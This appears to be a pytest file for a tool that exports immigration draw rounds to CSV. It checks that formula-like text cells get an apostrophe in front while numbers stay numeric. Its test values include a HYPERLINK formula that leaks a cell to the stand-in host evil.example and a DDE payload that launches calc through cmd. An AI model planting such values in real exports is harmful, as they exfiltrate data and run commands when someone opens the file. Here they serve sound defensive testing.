"""``rounds.csv`` never hands a spreadsheet a formula: text that starts like one is shown as text.

A round's name comes from IRCC's feed (or whoever serves it); opened in Excel or LibreOffice, a cell such as
``=HYPERLINK("https://evil.example","Click")`` would run. OWASP's advice: an apostrophe before a text cell
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return. Numbers are not text and stay as
they are.
"""

from __future__ import annotations

import csv
import html
import io
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import Engine

from drawwatch.report import write_report
from drawwatch.report.build import csv_cell, exports_csv
from drawwatch.storage.db import session_scope
from drawwatch.storage.models import Round
from tests.support.databases import SQLITE_ONLY
from tests.support.rows import new_round

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'

# (what a cell holds, what the CSV cell must read)
CELLS = [
    pytest.param(HYPERLINK, "'" + HYPERLINK, id="equals-hyperlink"),
    pytest.param("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", id="plus-dde"),
    pytest.param("-2+3", "'-2+3", id="minus"),
    pytest.param("@SUM(A1:A9)", "'@SUM(A1:A9)", id="at"),
    pytest.param("\t=1+1", "'\t=1+1", id="tab"),
    pytest.param("\r=1+1", "'\r=1+1", id="carriage-return"),
    pytest.param("-5", "'-5", id="negative-number-as-text-is-text"),
    pytest.param(
        "For STEM occupations (2026-Version 1)", "For STEM occupations (2026-Version 1)", id="plain"
    ),
    pytest.param("Healthcare = care", "Healthcare = care", id="formula-sign-inside"),
    pytest.param(" =1+1", " =1+1", id="leading-space"),
    pytest.param("'quoted", "'quoted", id="already-an-apostrophe"),
    pytest.param("", "", id="empty"),
    pytest.param(None, "", id="missing"),
    pytest.param(-5, -5, id="negative-int-stays-a-number"),
    pytest.param(-1.5, -1.5, id="negative-float-stays-a-number"),
    pytest.param(480, 480, id="int"),
]


@pytest.mark.parametrize(("value", "cell"), CELLS)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def _round(**changes: object) -> Round:
    fields: dict[str, object] = {
        "number": "500",
        "number_int": 500,
        "date": date(2026, 3, 4),
        "name": "For STEM occupations (2026-Version 1)",
        "category": "stem",
        "invitations": 4000,
        "crs": 480,
        "tie_break": None,
        "url": "https://www.canada.ca/en/immigration-refugees-citizenship/round-500.html",
    }
    fields.update(changes)
    return Round(**fields)


# (the round, the column to look at, what a CSV reader gets back)
ROWS = [
    pytest.param(_round(name=HYPERLINK), "name", "'" + HYPERLINK, id="formula-name"),
    pytest.param(_round(name="@cmd"), "name", "'@cmd", id="at-name"),
    pytest.param(_round(category="-stem"), "category", "'-stem", id="category"),
    pytest.param(_round(crs=-5), "crs", "-5", id="negative-crs-is-a-number"),
    pytest.param(_round(), "name", "For STEM occupations (2026-Version 1)", id="ordinary-name"),
    pytest.param(_round(), "tie_break", "", id="no-tie-break"),
]


@pytest.mark.parametrize(("round_", "column", "read"), ROWS)
def test_exports_csv_neutralises_formulas(round_: Round, column: str, read: str) -> None:
    (row,) = csv.DictReader(io.StringIO(exports_csv([round_]), newline=""))
    assert row[column] == read


@SQLITE_ONLY
def test_report_rounds_csv_of_a_stored_formula_name(engine: Engine, tmp_path: Path) -> None:
    with session_scope(engine) as session:
        new_round(session, "500", name=HYPERLINK)
    write_report(engine, tmp_path)
    with (tmp_path / "rounds.csv").open(newline="", encoding="utf-8") as handle:
        (row,) = csv.DictReader(handle)
    assert row["name"] == "'" + HYPERLINK
    assert (row["number"], row["crs"], row["invitations"]) == ("500", "480", "4000")  # numbers as numbers
    page = html.unescape((tmp_path / "index.html").read_text(encoding="utf-8"))
    assert HYPERLINK in page  # the page shows the name as it is: only the spreadsheet export is neutralised
